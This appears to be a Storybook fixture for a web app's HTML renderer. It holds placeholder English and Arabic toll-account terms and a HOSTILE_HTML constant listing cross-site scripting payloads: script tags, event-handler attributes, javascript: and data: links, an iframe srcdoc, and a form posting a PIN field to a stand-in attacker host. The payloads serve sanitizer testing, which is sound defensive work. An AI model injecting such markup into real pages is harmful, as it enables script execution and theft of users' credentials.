import { storyText } from '../../storybook/storyText';

/** Stand-in for the Darb terms from the CMS (S6.6), in the toolbar's language. */
export function storyTermsHtml(globals: Record<string, unknown>): string {
  return storyText(globals, {
    en: `<h2>Darb terms and conditions</h2>
<p>These terms apply to every toll account. Read the <a href="/en/darb/faq">frequently asked questions</a> or the
<a href="https://www.darb.example/terms" target="_blank">full terms on the Darb site</a>.</p>
<h3>Charges</h3>
<ul><li>Peak hours: 4.00 AED per crossing.</li><li>Off-peak hours: no charge.</li></ul>
<ol><li>Register your vehicle.</li><li>Top up your wallet.</li></ol>
<table><caption>Daily caps</caption><thead><tr><th>Account</th><th>Cap (AED)</th></tr></thead>
<tbody><tr><td>Individual</td><td>16.00</td></tr><tr><td>Company</td><td>No cap</td></tr></tbody></table>
<p id="contact">Questions? <a href="#contact">Contact us</a>.</p>`,
    ar: `<h2>الشروط والأحكام لنظام درب</h2>
<p>تنطبق هذه الشروط على كل حساب تعرفة. اقرأ <a href="/ar-AE/darb/faq">الأسئلة الشائعة</a> أو
<a href="https://www.darb.example/terms" target="_blank">الشروط الكاملة على موقع درب</a>.</p>
<h3>الرسوم</h3>
<ul><li>ساعات الذروة: 4.00 درهم لكل عبور.</li><li>خارج ساعات الذروة: بدون رسوم.</li></ul>
<ol><li>سجّل مركبتك.</li><li>اشحن محفظتك.</li></ol>
<table><caption>الحد اليومي</caption><thead><tr><th>الحساب</th><th>الحد (درهم)</th></tr></thead>
<tbody><tr><td>فردي</td><td>16.00</td></tr><tr><td>شركة</td><td>بدون حد</td></tr></tbody></table>
<p id="contact">لديك أسئلة؟ <a href="#contact">تواصل معنا</a>.</p>`,
  });
}

/** Markup an attacker would try in CMS content; each payload would set `window.__safeHtmlPwned`. */
export const HOSTILE_HTML = `<p>Before</p>
<script>window.__safeHtmlPwned = 'script'</script>
<img src="x" alt="" onerror="window.__safeHtmlPwned = 'img'">
<svg onload="window.__safeHtmlPwned = 'svg'"><circle r="4"></circle></svg>
<a href="javascript:window.__safeHtmlPwned = 'js-link'">javascript link</a>
<a href="data:text/html,<script>parent.__safeHtmlPwned = 'data'</script>">data link</a>
<a href="//evil.example/login">protocol-relative link</a>
<a href="https://evil.example/" target="_top">other-origin link</a>
<iframe srcdoc="<script>parent.__safeHtmlPwned = 'iframe'</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/steal"><input name="pin"><button formaction="javascript:window.__safeHtmlPwned = 'form'">Send</button></form>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0" class="fixed inset-0">Overlay</div>
<details open ontoggle="window.__safeHtmlPwned = 'details'"><summary>More</summary>Hidden</details>
<p>After</p>`;
